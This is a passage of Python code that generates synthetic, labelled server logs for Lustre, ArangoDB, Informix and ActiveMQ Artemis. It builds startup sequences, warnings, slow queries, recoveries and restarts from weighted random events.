        if g.r.random() < 0.5:
            k(f"LustreError: {pid()}:0:(ldlm_lockd.c:2559:ldlm_cancel_handler()) ldlm_cancel from {c} arrived at {int(L.t.timestamp())} with bad export cookie {g.num(10 ** 18, 10 ** 19)}",
              "bad_export_cookie")
            skipped("LustreError")

    def dead_client():
        ost, c = g.c(OSTS), g.c(CLIENTS)
        n = g.num(227, 800)
        now = int(L.t.timestamp())
        k(f"Lustre: {ost}: haven't heard from client {UUIDS[c]} (at {c}) in {n} seconds. I think it's dead, and I am evicting it. exp {g.hx(16)}, cur {now} expire {now - 150} last {now - n}",
          "client_dead_evicting")
        skipped()

    def slow_reply():
        srv = g.c(["MGC10.10.0.11@o2ib", "scratch-MDT0000-lwp-OST0006", "scratch-MDT0001-lwp-OST0007"])
        now = int(L.t.timestamp())
        k(f"Lustre: {pid()}:0:(client.c:2289:ptlrpc_expire_one_request()) @@@ Request sent has timed out for slow reply: [sent {now - 7}/real {now - 7}]  {req()} "
          f"o{g.c([400, 400, 38])}->{srv}@10.10.0.{g.c([11, 12])}@o2ib:{g.c([26, 12])}/{g.c([25, 10])} lens 224/224 e 0 to 1 dl {now} ref 1 fl Rpc:XNQr/0/ffffffff rc 0/-1 job:''",
          "slow_reply_timeout")
        skipped()

    def early_reply():
        c = g.c(CLIENTS)
        k(f"Lustre: {pid()}:0:(service.c:1345:ptlrpc_at_send_early_reply()) @@@ Could not add any time ({g.num(4, 5)}/5), not sending early reply  {req()} "
          f"o{g.c([4, 3, 101])}->{UUIDS[c]}@{c}:{g.num(0, 800)}/0 lens {g.c([488, 608, 440])}/{g.c([448, 432])} e {g.num(1, 24)} to 0 dl {int(L.t.timestamp()) + 5} ref 2 "
          f"fl Interpret:/0/0 rc 0/0 job:'{g.c(['srun.' + str(g.num(200000, 300000)), 'python.' + str(g.num(1000, 9000)), 'rsync.0', 'cp.0'])}'", "early_reply_no_time")
        skipped()

    def bulk():
        c = g.c(CLIENTS)
        what = g.c(["Reconnect on bulk WRITE", "Reconnect on bulk READ", "network error on bulk WRITE", "timeout on bulk READ after 100+0s"])
        k(f"LustreError: {pid()}:0:(ldlm_lib.c:3518:target_bulk_io()) @@@ {what}  {req()} o{4 if 'WRITE' in what else 3}->{UUIDS[c]}@{c}:{g.num(0, 800)}/0 lens 608/448 e 0 to 0 "
          f"dl {int(L.t.timestamp()) + 100} ref 1 fl Interpret:/0/0 rc 0/0 job:'srun.{g.num(200000, 300000)}'", "target_bulk_io")
        skipped("LustreError")

    def lnet():
        c = g.c(CLIENTS)
        if g.r.random() < 0.5:
            k(f"LNetError: {pid()}:0:(o2iblnd_cb.c:3373:kiblnd_check_txs_locked()) Timed out tx: {g.c(['active_txs', 'tx_queue'])}, {g.num(1, 9)} seconds", "lnet_timed_out_tx")
        k(f"LNetError: {pid()}:0:(o2iblnd_cb.c:3448:kiblnd_check_conns()) Timed out RDMA with {c} ({g.num(5, 200)}): c: {g.num(0, 8)}, oc: 0, rc: {g.num(7, 8)}", "lnet_timed_out_rdma")
        skipped("LNetError")

    def hung():
        th = f"ll_ost_io{g.num(0, 3):02d}_{g.num(0, 40):03d}"
        p = pid()
        k(f"Lustre: {th}: service thread pid {p} was inactive for {g.f(200, 400, 3)} seconds. The thread might be hung, or it might only be slow and will resume later. "
          "Dumping the stack trace for debugging purposes:", "thread_inactive")
        k(f"Pid: {p}, comm: {th} 4.18.0-553.16.1.el8_lustre.x86_64 #1 SMP Thu Aug 1 14:21:05 UTC 2026", "pid_comm")
        k("Call Trace TBD:", "call_trace")
        for fr in ["ldlm_completion_ast+0x7ac/0x900 [ptlrpc]", "ldlm_cli_enqueue_local+0x25c/0x850 [ptlrpc]", "tgt_extent_lock+0xea/0x290 [ptlrpc]",
                   "ofd_preprw_write.isra.29+0x10f/0x9a0 [ofd]", "ofd_preprw+0x128/0x310 [ofd]", "tgt_brw_write+0xcb4/0x1ca0 [ptlrpc]", "tgt_request_handle+0xc78/0x1910 [ptlrpc]",
                   "ptlrpc_server_handle_request+0x31d/0xbc0 [ptlrpc]", "ptlrpc_main+0xc52/0x15a0 [ptlrpc]", "kthread+0x134/0x150", "ret_from_fork+0x35/0x40"][:g.num(7, 11)]:
            k(f"[<0>] {fr}", "stack_frame", True)
        if g.r.random() < 0.6:
            L.t += dt.timedelta(seconds=g.num(10, 200))
            k(f"Lustre: {th}: service thread pid {p} completed after {g.f(200, 600, 3)}s. This likely indicates the system was overloaded (too many service threads, or not enough hardware resources).",
              "thread_completed")

    def session():
        st["sess"] += 1
        d("systemd-logind", st["logind"], f"New session {st['sess']} of user root.", "logind_new_session")
        d("systemd", 1, f"Started Session {st['sess']} of user root.", "systemd_started_session")
        L.t += dt.timedelta(seconds=g.num(10, 900))
        d("systemd-logind", st["logind"], f"Session {st['sess']} logged out. Waiting for processes to exit.", "logind_logged_out")
        d("systemd-logind", st["logind"], f"Removed session {st['sess']}.", "logind_removed")

    def chrony():
        d("chronyd", st["chrony"], *g.c([(f"Selected source 10.10.0.{g.num(1, 3)}", "chrony_selected"), (f"System clock wrong by {g.f(0.5, 3, 6)} seconds, adjustment started", "chrony_wrong"),
                                         (f"Source 10.10.0.{g.num(1, 3)} replaced with 10.10.0.{g.num(4, 5)}", "chrony_replaced")]))

    def timer():
        d("systemd", 1, "Starting dnf makecache...", "systemd_starting_unit")
        L.t += dt.timedelta(seconds=g.num(2, 30))
        d("dnf", g.num(100000, 900000), "Metadata cache refreshed recently.", "dnf_metadata")
        d("systemd", 1, "dnf-makecache.service: Succeeded.", "systemd_unit_succeeded")
        d("systemd", 1, "Started dnf makecache.", "systemd_started_unit")

    def remount():
        ost = g.c(OSTS)
        dev = f"dm-{int(ost[-4:], 16) + 4}"
        k(f"Lustre: Failing over {ost}", "failing_over")
        k(f"Lustre: server umount {ost} complete", "umount_complete")
        L.t += dt.timedelta(seconds=g.num(20, 120))
        k(f"LDISKFS-fs ({dev}): mounted filesystem with ordered data mode. Opts: errors=remount-ro,no_mbcache,nodelalloc", "ldiskfs_mounted")
        k(f"Lustre: {ost}: Imperative Recovery not enabled, recovery window 300-900", "imperative_recovery")
        k(f"Lustre: {ost}: in recovery but waiting for the first client to connect", "waiting_first_client")
        L.t += dt.timedelta(seconds=g.num(2, 20))
        n = len(CLIENTS) * 7
        k(f"Lustre: {ost}: Will be in recovery for at least 5:00, or until {n} clients reconnect", "will_be_in_recovery")
        L.t += dt.timedelta(seconds=g.num(60, 300))
        ev = g.num(0, 3)
        k(f"Lustre: {ost}: Recovery over after {g.num(1, 4)}:{g.num(0, 59):02d}, of {n} clients {n - ev} recovered and {ev} {'was' if ev == 1 else 'were'} evicted.", "recovery_over")

    ev = [(22, reconnect), (12, evict_lock), (5, dead_client), (8, slow_reply), (8, early_reply), (6, bulk), (6, lnet), (0.8, hung), (2, session), (1.5, chrony), (0.6, timer),
          (0.15, remount)]
    return L.run(slowed(L, ev, 30), None)


# 5 ---------------------------------------------------------------- ArangoDB 3.11.11 Community single server (Docker, official image) behind a shop's product catalogue, `docker logs arangodb`:
#   "yyyy-mm-ddThh:mm:ssZ [pid] LEVEL [logid] {topic} message" where the five-hex log id names the call site; the entrypoint's first-start lines
#   without a header, start-up facts and the host-tuning warnings (each with its "execute 'sudo ...'" line), RocksDB recovery, slow queries with their
#   bind variables, queries over the memory limit, RocksDB write stalls, a dropped index build, restarts with SIGTERM
@checked
def log_arangodb(seed):
    L = Log("arangodb_docker_logs", seed, "full", True, True)
    g = L.g
    st = {"seq": g.num(10 ** 7, 10 ** 8), "tok": g.num(10000, 90000)}
    QUERIES = [("FOR p IN products FILTER p.category == @cat AND p.price <= @max SORT p.rank DESC LIMIT 48 RETURN p", lambda: {"cat": g.c(["shoes", "jackets", "bags", "kids"]), "max": g.num(20, 400)}),
               ("FOR o IN orders FILTER o.customerId == @cid SORT o.createdAt DESC LIMIT 50 RETURN o", lambda: {"cid": f"C-{g.num(10000, 99999)}"}),
               ("FOR d IN products_view SEARCH ANALYZER(d.title IN TOKENS(@q, 'text_en'), 'text_en') SORT BM25(d) DESC LIMIT 20 RETURN d", lambda: {"q": g.c(["rain jacket", "running shoes men", "leather bag", "wool socks"])}),
               ("FOR v, e IN 1..3 OUTBOUND @start GRAPH 'recommendations' OPTIONS {uniqueVertices: 'path'} LIMIT 100 RETURN v._key", lambda: {"start": f"products/{g.num(100000, 999999)}"}),
               ("FOR s IN sessions FILTER s.expires < DATE_NOW() REMOVE s IN sessions", lambda: {}),
               ("FOR i IN inventory COLLECT w = i.warehouse AGGREGATE total = SUM(i.qty) RETURN {w, total}", lambda: {})]

    def a(lv, lid, topic, msg, ev):
        L.t += ms(g, 0, 200)
        L.emit(f"{L.t:%Y-%m-%dT%H:%M:%S}Z [1] {lv} [{lid}] {{{topic}}} {msg}", ev, lv, topic)

    def startup(first=False):
        if first:
            for text, ev in [("Initializing root user...Hang on...", "entry_init_root"), ("Initializing database...Hang on...", "entry_init_db"),
                             ("Database initialized...Starting System...", "entry_db_initialized")]:
                L.emit(text, ev, t=None)
        a("INFO", "e52b0", "general", "ArangoDB 3.11.11 [linux] 64bit, using jemalloc, build tags/v3.11.11-0, VPack 0.2.1, RocksDB 7.2.0, ICU 64.2, V8 7.9.317, OpenSSL 3.0.14 4 Jun 2024",
          "version")
        a("INFO", "75ddc", "general", "detected operating system: Linux version 6.1.0-27-amd64 (debian-kernel@lists.debian.org) (gcc-12 (Debian 12.2.0-14) 12.2.0, GNU ld (GNU Binutils for "
                                     "Debian) 2.40) #1 SMP PREEMPT_DYNAMIC Debian 6.1.115-1 (2024-11-01)", "detected_os")
        a("INFO", "25362", "memory", f"Available physical memory: 33582444544 bytes, available cores: 8", "available_memory")
        a("WARNING", "118b0", "memory", "maximum number of memory mappings per process is 65530, which seems too low. it is recommended to set it to at least 512000", "max_map_count_low")
        a("WARNING", "49528", "memory", "execute 'sudo sysctl -w \"vm.max_map_count=512000\"'", "execute_sysctl")
        a("WARNING", "e8b68", "memory", "/sys/kernel/mm/transparent_hugepage/enabled is set to 'always'. It is recommended to set it to a value of 'never' or 'madvise'", "thp_enabled")
        a("WARNING", "f3108", "memory", "execute 'sudo bash -c \"echo madvise > /sys/kernel/mm/transparent_hugepage/enabled\"'", "execute_thp")
        a("INFO", "43396", "authentication", "Jwt secret not specified, generating...", "jwt_generating")
        a("INFO", "144fe", "general", "using storage engine 'rocksdb'", "storage_engine")
        a("INFO", "3bb7d", "cluster", "Starting up with role SINGLE", "role_single")
        a("INFO", "a1c60", "syscall", "file-descriptors (nofiles) hard limit is 1048576, soft limit is 1048576", "nofiles")
        a("INFO", "3844e", "authentication", "Authentication is turned on (system only), authentication for unix sockets is turned on", "auth_on")
        if not first:
            s0 = st["seq"]
            st["seq"] += g.num(1000, 900000)
            a("INFO", "fe333", "engines", f"RocksDB recovery starting, scanning WAL starting from sequence number {s0}, latest sequence number: {st['seq']}", "recovery_starting")
            L.t += ms(g, 200, 4000)
            a("INFO", "a4ec8", "engines", f"RocksDB recovery finished, WAL entries scanned: {g.num(0, 90000)}, recovery start sequence number: {s0}, latest WAL sequence number: {st['seq']}, "
                                          f"max tick value found in WAL: {g.num(10 ** 6, 10 ** 7)}, last HLC value: {int(L.t.timestamp() * 1000) << 20}", "recovery_finished")
        a("INFO", "6ea38", "general", "using endpoint 'http+tcp://0.0.0.0:8529' for non-encrypted requests", "endpoint")
        L.t += ms(g, 500, 3000)
        a("INFO", "cf3f4", "general", "ArangoDB (version 3.11.11 [linux]) is ready for business. Have fun!", "ready")

    def slow_query():
        q, bv = g.c(QUERIES)
        st["tok"] += g.num(1, 40)
        b = json.dumps(bv(), separators=(",", ":"))
        took = g.r.choice([g.r.uniform(10, 30), g.r.uniform(10, 90), g.r.uniform(30, 400)])
        a("WARNING", "8bcee", "queries", f"slow query: '{q}', database: shop, user: {g.c(['shop_app', 'shop_app', 'reporting'])}, bind vars: {b}, token: QRY{st['tok']}, "
                                         f"peak memory usage: {g.num(32768, 900000000)}, took: {took:.6f} s", "slow_query")

    def slow_stream():
        q, bv = g.c(QUERIES[:2])
        st["tok"] += 1
        a("WARNING", "65e8c", "queries", f"slow streaming query: '{q}', database: shop, user: shop_export, token: QRY{st['tok']}, peak memory usage: {g.num(32768, 90000000)}, "
                                         f"took: {g.r.uniform(10, 300):.6f} s", "slow_streaming_query")

    def oom_query():
        q, bv = g.c(QUERIES[3:])
        a("WARNING", "e56e4", "queries", f"AQL query failed with error 32: resource limit exceeded (query would use more memory than allowed (limit: 268435456 bytes)), "
                                         f"query: '{q}', database: shop, user: reporting", "query_failed")

    def stall():
        cf = g.c(["Documents", "PrimaryIndex", "VPackIndex", "EdgeIndex"])
        if g.r.random() < 0.7:
            a("WARNING", "7f4a1", "rocksdb", f"[db/column_family.cc:{g.c([931, 948])}] [{cf}] Stalling writes because we have {g.num(3, 4)} immutable memtables (waiting for flush), "
                                             f"max_write_buffer_number is set to 4 rate {g.c([16777216, 13421772, 10737418])}", "stalling_writes")
        else:
            a("WARNING", "7f4a1", "rocksdb", f"[db/column_family.cc:1023] [{cf}] Stalling writes because of estimated pending compaction bytes {g.num(60, 130) * 1024 ** 3} "
                                             f"rate {g.c([16777216, 13421772])}", "stalling_pending_compaction")

    def index_build():
        coll = g.c(["orders", "products", "events"])
        idx = g.c(["idx_orders_customer_created", "idx_products_sku", "idx_events_ts"])
        a("INFO", "2f1c9", "engines", f"starting to build index '{idx}' on collection '{coll}' in database 'shop' in background", "index_build_start")
        L.t += dt.timedelta(seconds=g.num(5, 400))
        if g.r.random() < 0.8:
            a("INFO", "66a22", "engines", f"finished building index '{idx}' on collection '{coll}', took {g.r.uniform(5, 400):.3f} s", "index_build_done")
        else:
            a("ERROR", "a8bd2", "engines", f"unique constraint violated while building index '{idx}' on collection '{coll}': conflicting key '{g.num(100000, 999999)}'", "index_build_failed")

    def http_warn():
        a("WARNING", "d4b68", "http", f"maximal number of queued requests ({g.c([4096])}) reached, rejecting request with HTTP 503 Service Unavailable", "queue_full") if g.r.random() < 0.3 else \
            a("WARNING", "2c9c1", "requests", f"keep-alive timeout reached, closing connection to {g.ip('192')}:{g.port()}", "keepalive_timeout")

    def scheduler():
        a("WARNING", "39c8a", "threads", f"Scheduler queue with max capacity {g.c([4096, 4096, 131072])} is filled more than 50% in last {g.r.uniform(10, 60):.6f}s (happened {g.num(1, 40)} times since last message)",
          "scheduler_queue_filled")

    def restart():
        a("INFO", "b4133", "general", "SIGTERM received (sender pid 0), beginning shut down sequence", "sigterm")
        L.t += ms(g, 300, 4000)
        a("INFO", "4bcb9", "general", "ArangoDB has been shut down", "shut_down")
        L.t += dt.timedelta(seconds=g.num(5, 60))
        startup()

    startup(True)
    ev = [(40, slow_query), (8, slow_stream), (5, oom_query), (10, stall), (3, index_build), (5, http_warn), (4, scheduler), (0.6, restart)]
    return next_times(L.run(slowed(L, ev, 60), None))


# 6 ---------------------------------------------------------------- IBM Informix Dynamic Server 14.10.FC10 of a distributor's ERP on AIX-like Linux hosts (here RHEL 8),
#   $INFORMIXDIR/tmp/online.log: only the time of day before each message ("hh:mm:ss  message"), the date in a ctime line with blank lines
#   around it at start and when the day changes; checkpoints (four lines each), logical logs filling and backed up by the alarm program, shared
#   memory segments added, lock table overflows, listener errors, long transactions, an assertion failure with its indented lines, restarts with
#   the full recovery sequence and its performance advisory
@checked
def log_informix(seed):
    L = Log("informix_online_log", seed, "tod", False, False, start=dt.datetime(2026, 12, 1, 6, 40, 3, tzinfo=UTC))
    g = L.g
    st = {"log": g.num(20000, 30000), "ts": g.num(0x10000000, 0x3fffffff), "uniq": 0, "day": None, "seg": 1, "interval": g.num(30000, 40000), "conn": g.num(40, 60)}
    st["uniq"] = st["log"]

    def day():
        if st["day"] != L.t.date():
            st["day"] = L.t.date()
            L.emit("", "blank")
            L.emit(ctime(L.t), "date_line")
            L.emit("", "blank")

    def m(msg, ev, cont=()):
        L.t += dt.timedelta(milliseconds=g.num(0, 150))
        day()
        L.emit(f"{L.t:%H:%M:%S}  {msg}", ev)
        for text, cev in cont:
            L.emit(text, cev)

    def ts():
        st["ts"] += g.num(1000, 900000)
        return f"0x{st['ts']:x}"

    def checkpoint():
        st["interval"] += 1
        m(f"Checkpoint Completed:  duration was {g.c([0, 0, 0, 0, 1, 2, 5])} seconds.", "checkpoint_completed")
        st["pos"] = st.get("pos", 0x18c) + g.num(0x1000, 0x90000)
        m(f"{L.t:%a %b} {L.t.day:>2} - loguniq {st['uniq']}, logpos 0x{st['pos']:x}, timestamp: {ts()} Interval: {st['interval']}", "checkpoint_loguniq")
        st["conn"] = max(5, st["conn"] + g.num(-5, 6))
        m(f"Maximum server connections {st['conn']}", "max_connections")
        m(f"Checkpoint Statistics - Avg. Txn Block Time {g.c(['0.000', '0.000', '0.000', g.f(0, 2, 3)])}, # Txns blocked {g.c([0, 0, 0, g.num(1, 20)])}, "
          f"Plog used {g.num(10, 90000)}, Llog used {g.num(10, 200000)}", "checkpoint_statistics")

    def log_full():
        n = st["log"]
        st["log"] += 1
        st["uniq"] = st["log"]
        st["pos"] = 0x18c
        t = ts()
        m(f"Logical Log {n} Complete, timestamp: {t}.", "logical_log_complete")
        if g.r.random() < 0.9:
            m(f"Logical Log {n} - Backup Started", "log_backup_started")
            L.t += dt.timedelta(seconds=g.num(1, 40))
            m(f"Logical Log {n} - Backup Completed", "log_backup_completed")
        else:
            m(f"Process exited with return code 1: /bin/sh /bin/sh -c '/opt/informix/etc/alarmprogram.sh 2 23 \"Logical Log {n} Complete, timestamp: {t}.\" "
              f"\"Logical Log {n} Complete, timestamp: {t}.\" 23001'", "alarm_exit_code")

    def segment():
        st["seg"] += 1
        m(f"Dynamically allocated new virtual shared memory segment (size {g.c([8192, 8192, 32768])}KB)", "new_virtual_segment")
        m(f"Memory sizes:resident:{g.num(2000000, 2100000)} KB, virtual:{g.num(400000, 900000) + st['seg'] * 8192} KB, no SHMTOTAL limit", "memory_sizes")

    def listener():
        m(f"listener-thread: err = {g.c([-25573, -25573, -25572])}: oserr = {g.c([0, 4, 104])}: errstr = : Network driver cannot accept a connection on the port.", "listener_error")

    def lock_overflow():
        sess = g.num(100, 9000)
        for _ in range(g.num(1, 4)):
            m(f"Lock table overflow - user id {g.c([1001, 1001, 1007, 200])}, session id {sess}", "lock_table_overflow")

    def long_tx():
        tx = f"0x{g.hx(8)}"
        user = g.c(["erpbatch", "erpapp", "informix"])
        m(f"Aborting Long Transaction: tx {tx} username: {user} uid: {g.c([1001, 1002, 200])}", "aborting_long_tx")
        L.t += dt.timedelta(seconds=g.num(30, 900))
        m(f"Long Transaction {tx} Aborted. Rollback Duration: {g.num(30, 900)} Seconds", "long_tx_aborted")

    def assert_fail():
        af = f"af.{g.hx(6)}"
        sess = g.num(100, 9000)
        thr = g.num(40, 900)
        m("Assert Failed: No Exception Handler", "assert_failed")
        m("IBM Informix Dynamic Server Version 14.10.FC10", "assert_version")
        m(f" Who: Session({sess}, erpapp@erp-app0{g.num(1, 4)}, {g.num(1000, 60000)}, 0x{g.hx(8)})", "assert_who",
          [(f"                Thread({thr}, sqlexec, {g.hx(8)}, {g.num(1, 9)})", "assert_thread"), (f"                File: {g.c(['mtex.c', 'rsmisc.c', 'sqscan.c'])} Line: {g.num(100, 9000)}", "assert_file")])
        m(" Results: Exception Caught. Type: MT_EX_OS, Context: mem", "assert_results")
        m(" Action: Please notify IBM Informix Technical Support.", "assert_action")
        m(f" See Also: /opt/informix/tmp/{af}, shmem.{af[3:]}.0", "assert_see_also")
        m(f"Stack for thread: {thr} sqlexec", "stack_for_thread",
          [(f" base: 0x{g.hx(16)}", "stack_base"), (f"  len:   {g.c([69632, 131072])}", "stack_len"), (f"   pc: 0x{g.hx(16)}", "stack_pc"), (f"  tos: 0x{g.hx(16)}", "stack_tos"),
           (f"state: running", "stack_state"), (f"   vp: {g.num(1, 8)}", "stack_vp")])

    def logs_full_wait():
        m("Logical Log Files are Full -- Backup is Needed", "logs_full")
        L.t += dt.timedelta(seconds=g.num(60, 600))
        log_full()

    def autoupd():
        m(f"SCHAPI: [Auto Update Statistics Refresh {g.num(20, 99)}-{g.num(1000, 9000)}] Error -211 Cannot read system catalog (sysdistrib).", "schapi_error") if g.r.random() < 0.2 else \
            m(f"Explicit UPDATE STATISTICS LOW completed for {g.c(['erp:orderhdr', 'erp:orderline', 'erp:stock', 'erp:customer'])} (duration {g.num(1, 300)} seconds)", "update_stats_done")

    def startup():
        L.emit("", "blank")
        L.emit(ctime(L.t), "date_line")
        L.emit("", "blank")
        st["day"] = L.t.date()
        m("IBM Informix Dynamic Server Started.", "ids_started")
        m("Requested shared memory segment size rounded from 8308KB to 8840KB", "shm_rounded")
        L.t += dt.timedelta(seconds=2)
        L.emit("", "blank")
        L.emit(ctime(L.t), "date_line")
        L.emit("", "blank")
        m("Successfully added a bufferpool of page size 2K.", "bufferpool_added")
        L.emit("", "blank")
        m("Event alarms enabled.  ALARMPROG = '/opt/informix/etc/alarmprogram.sh'", "event_alarms")
        for lang, mod in [("c", "CNULL"), ("builtin", "BUILTINNULL")]:
            m(f"Booting Language <{lang}> from module <>", "booting_language")
            m(f"Loading Module <{mod}>", "loading_module")
        L.t += dt.timedelta(seconds=g.num(2, 6))
        st["seg"] = 1
        segment()
        m("DR: DRAUTO is 0 (Off)", "dr_drauto")
        m("DR: ENCRYPT_HDR is 0 (HDR encryption Disabled)", "dr_encrypt")
        m("Event notification facility epoll enabled.", "epoll_enabled")
        m("CCFLAGS2 value set to 0x200", "ccflags2")
        m("SQL_LOGICAL_CHAR disabled", "sql_logical_char")
        m("SQL_DEF_CTRL disabled", "sql_def_ctrl")
        m("SQLHOSTS_OPTIONS 0x0", "sqlhosts_options")
        m("IBM Informix Dynamic Server Version 14.10.FC10 Software Serial Number AAA#B000000", "ids_version")
        m("Value of FULL_DISK_INIT has been changed to 0.", "full_disk_init")
        m("Performance Advisory: The physical log size is smaller than the recommended size for a", "perf_advisory",
          [("          server configured with RTO_SERVER_RESTART.", "perf_advisory_cont")])
        m(" Results: Fast recovery performance might not be optimal.", "perf_results")
        m(" Action: For best fast recovery performance, increase the physical log size to at", "perf_action",
          [(f"          least {g.num(400000, 900000)} KB. For information on changing the physical log, see the Administrator's Guide.", "perf_action_cont")])
        m("IBM Informix Dynamic Server Initialized -- Shared Memory Initialized.", "ids_initialized")
        m("Started 1 B-tree scanners.", "btree_started")
        m("B-tree scanner threshold set at 5000.", "btree_threshold")
        m("B-tree scanner range scan size set to -1.", "btree_range")
        m("B-tree scanner ALICE mode set to 6.", "btree_alice")
        m("B-tree scanner index compression level set to med.", "btree_compression")
        m(f"Physical Recovery Started at Page ({g.num(1, 3)}:{g.num(1000, 90000)}).", "phys_recovery_started")
        n = g.c([0, 0, g.num(10, 9000)])
        m(f"Physical Recovery Complete: {n} Pages Examined, {n // 2} Pages Restored.", "phys_recovery_complete")
        m("Logical Recovery Started.", "log_recovery_started")
        m("10 recovery worker threads will be started.", "recovery_workers")
        checkpoint()
        m("Logical Recovery has reached the transaction cleanup phase.", "log_recovery_cleanup")
        m("Logical Recovery Complete.", "log_recovery_complete",
          [(f"          {g.num(0, 900)} Committed, {g.num(0, 9)} Rolled Back, 0 Open, 0 Bad Locks", "log_recovery_counts")])
        L.emit("", "blank")
        m("Dataskip is now OFF for all dbspaces", "dataskip_off")
        m("Init operation complete - Mode Online", "init_complete")
        m("On-Line Mode", "online_mode")
        m("SCHAPI: Started dbScheduler thread.", "schapi_scheduler")
        m("Booting Language <spl> from module <>", "booting_language")
        m("Loading Module <SPLNULL>", "loading_module")
        m("SCHAPI: Started 2 dbWorker threads.", "schapi_workers")
        m("Auto Registration is synced", "auto_registration")

    def restart():
        m("Shutdown Mode", "shutdown_mode")
        checkpoint()
        m("IBM Informix Dynamic Server Stopped.", "ids_stopped")
        L.t += dt.timedelta(minutes=g.num(2, 40))
        startup()

    startup()
    ev = [(60, checkpoint), (18, log_full), (4, segment), (6, listener), (4, lock_overflow), (1.5, long_tx), (0.4, assert_fail), (0.8, logs_full_wait), (3, autoupd), (0.3, restart)]
    return L.run(slowed(L, ev, 240), None)


# 7 ---------------------------------------------------------------- Apache ActiveMQ Artemis 2.37.0 (the apache/activemq-artemis image, a two-broker cluster for an order pipeline:
#   CORE, AMQP and MQTT clients), `docker logs artemis-1`: `artemis create` on the first start and the ASCII banner at each start (no header), then
#   log4j2 "%d %-5level [%logger] %msg%n" with AMQ message codes; handshake timeouts of a load balancer's probes, clients dropping, connection TTLs,
#   paging and address blocking, messages sent to the DLQ, a consumer failing with a stack trace, the cluster bridge losing its peer, restarts
@checked
def log_artemis(seed):
    L = Log("artemis_docker_logs", seed, "full", True, True)
    g = L.g
    S = "org.apache.activemq.artemis.core.server"
    st = {"node": g.uuid(), "started": L.t, "peer_down": False}
    ADDRS = ["orders.created", "orders.paid", "payments.requests", "shipping.labels", "inventory.updates", "telemetry.scanners"]
    CLIENTS = [f"10.42.{g.num(0, 3)}.{g.num(2, 250)}" for _ in range(25)]

    def ar(lv, logger, msg, ev, cont=()):
        L.t += ms(g, 0, 300)
        L.emit(f"{L.t:%Y-%m-%d %H:%M:%S},{ms3(L.t)} {lv:<5} [{logger}] {msg}", ev, lv, logger)
        for text, cev in cont:
            L.emit(text, cev, lv, logger)

    def raw(text, ev):
        L.emit(text, ev, t=None)

    def banner():
        for k, text in enumerate(["     _        _               _", "    / \\  ____| |_  ___ __  __(_) _____", "   / _ \\|  _ \\ __|/ _ \\  \\/  | |/  __/",
                                  "  / ___ \\ | \\/ |_/  __/ |\\/| | |\\__ \\", " /_/   \\_\\|   \\__\\____|_|  |_|_|/___ /", " Apache ActiveMQ Artemis 2.37.0", "", ""]):
            raw(text, f"banner_{k + 1}" if text else "blank")

    def create():
        for text, ev in [("Creating ActiveMQ Artemis instance at: /var/lib/artemis-instance", "create_instance"), ("", "blank"), ("Auto tuning journal ...", "auto_tuning"),
                         (f"done! Your system can make {g.f(5, 60, 2)} writes per millisecond, your journal-buffer-timeout will be {g.num(16000, 200000)}", "tuning_done"), ("", "blank"),
                         ("You can now start the broker by executing:", "start_hint"), ("", "blank"), ('   "/var/lib/artemis-instance/bin/artemis" run', "start_cmd"), ("", "blank"),
                         ("Or you can run the broker in the background using:", "background_hint"), ("", "blank"), ('   "/var/lib/artemis-instance/bin/artemis-service" start', "start_cmd"), ("", "blank")]:
            raw(text, ev)
        L.t += dt.timedelta(seconds=g.num(2, 5))

    def startup():
        banner()
        L.t += ms(g, 500, 2000)
        st["started"] = L.t
        ar("INFO", "org.apache.activemq.artemis.integration.bootstrap", "AMQ101000: Starting ActiveMQ Artemis Server version 2.37.0", "starting_server")
        ar("INFO", S, "AMQ221000: Live Message Broker is starting with configuration Broker Configuration (clustered=true,journalDirectory=data/journal,bindingsDirectory=data/bindings,"
                      "largeMessagesDirectory=data/large-messages,pagingDirectory=data/paging)", "broker_starting")
        ar("INFO", S, "AMQ221012: Using AIO Journal", "using_aio")
        ar("INFO", S, "AMQ221057: Global Max Size is being adjusted to 1/2 of the JVM max size (-Xmx). being 1073741824 bytes", "global_max_size")
        for mod, proto in [("artemis-server", "CORE"), ("artemis-amqp-protocol", "AMQP"), ("artemis-hornetq-protocol", "HORNETQ"), ("artemis-mqtt-protocol", "MQTT"),
                           ("artemis-openwire-protocol", "OPENWIRE"), ("artemis-stomp-protocol", "STOMP")]:
            ar("INFO", S, f"AMQ221043: Protocol module found: [{mod}]. Adding protocol support for: {proto}", "protocol_module")
        ar("INFO", S, "AMQ221034: Waiting indefinitely to obtain live lock", "waiting_live_lock")
        ar("INFO", S, "AMQ221035: Live Server Obtained live lock", "obtained_live_lock")
        L.t += ms(g, 300, 3000)
        ar("INFO", S, f"AMQ221080: Deploying address DLQ supporting [ANYCAST]", "deploying_address")
        ar("INFO", S, f"AMQ221003: Deploying ANYCAST queue DLQ on address DLQ", "deploying_queue")
        ar("INFO", S, f"AMQ221080: Deploying address ExpiryQueue supporting [ANYCAST]", "deploying_address")
        ar("INFO", S, f"AMQ221003: Deploying ANYCAST queue ExpiryQueue on address ExpiryQueue", "deploying_queue")
        for ad in ADDRS:
            ar("INFO", S, f"AMQ221080: Deploying address {ad} supporting [{'MULTICAST' if ad.startswith('telemetry') else 'ANYCAST'}]", "deploying_address")
            ar("INFO", S, f"AMQ221003: Deploying {'MULTICAST' if ad.startswith('telemetry') else 'ANYCAST'} queue {ad} on address {ad}", "deploying_queue")
        ar("INFO", S, "AMQ221020: Started EPOLL Acceptor at 0.0.0.0:61616 for protocols [CORE,MQTT,AMQP,STOMP,HORNETQ,OPENWIRE]", "started_acceptor")
        ar("INFO", S, "AMQ221020: Started EPOLL Acceptor at 0.0.0.0:5672 for protocols [AMQP]", "started_acceptor")
        ar("INFO", S, "AMQ221020: Started EPOLL Acceptor at 0.0.0.0:1883 for protocols [MQTT]", "started_acceptor")
        ar("INFO", S, "AMQ221007: Server is now live", "server_live")
        ar("INFO", S, f"AMQ221001: Apache ActiveMQ Artemis Message Broker version 2.37.0 [artemis-1, nodeID={st['node']}] ", "broker_version")
        L.t += ms(g, 200, 2000)
        ar("INFO", "org.apache.activemq.artemis", "AMQ241001: HTTP Server started at http://0.0.0.0:8161", "http_started")
        ar("INFO", "org.apache.activemq.artemis", "AMQ241002: Artemis Jolokia REST API available at http://0.0.0.0:8161/console/jolokia", "jolokia_available")
        ar("INFO", "org.apache.activemq.artemis", "AMQ241004: Artemis Console available at http://0.0.0.0:8161/console", "console_available")
        bridge_up()

    def bridge_up():
